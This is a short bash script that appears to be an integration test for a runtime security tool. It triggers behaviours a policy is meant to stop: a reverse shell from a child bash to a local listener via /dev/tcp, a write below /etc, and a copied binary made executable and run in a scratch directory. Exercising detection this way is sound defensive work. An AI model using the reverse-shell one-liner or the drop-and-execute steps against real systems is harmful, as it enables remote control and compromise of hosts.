#!/bin/bash
# ResponseIT: the behaviours a production policy stops, run by one parent shell that must go on.
#   attack.sh SCRATCH_DIR LISTENER_PORT
T=$1 PORT=$2
# a reverse shell from a child shell to the listener (which sends "exit")
bash -c "bash --norc --noprofile -i >& /dev/tcp/127.0.0.1/$PORT 0>&1" 2>/dev/null
echo "shell=$?"
# a write below /etc; reads go on working
echo compromised > "/etc/vigil-response-$$" 
echo "write=$?"
cat /etc/hostname > /dev/null
echo "read=$?"
# a binary dropped in the container, made executable and run
cp /bin/true "$T/dropped" && chmod +x "$T/dropped" && "$T/dropped"
echo "dropped=$?"
rm -f "/etc/vigil-response-$$"
echo done
